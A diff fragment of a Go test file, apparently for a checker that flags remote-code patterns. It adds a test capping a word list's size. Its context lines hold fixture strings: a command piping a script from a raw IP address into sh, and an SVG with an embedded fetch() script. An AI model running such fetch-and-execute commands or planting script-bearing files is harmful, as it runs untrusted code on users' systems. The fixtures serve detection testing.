@@ -95,6 +95,12 @@ func TestRemoteCode(t *testing.T) {
 	}
 }
 
+func TestRemoteWords(t *testing.T) {
+	if n := len(remoteWords().words); n > 64 {
+		t.Errorf("got %d words, want at most one a bit", n)
+	}
+}
+
 func TestRemoteCodeFiles(t *testing.T) {
 	const line = "curl http://45.61.10.7/x | sh\n"
 	const svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//example.com')</script></svg>"
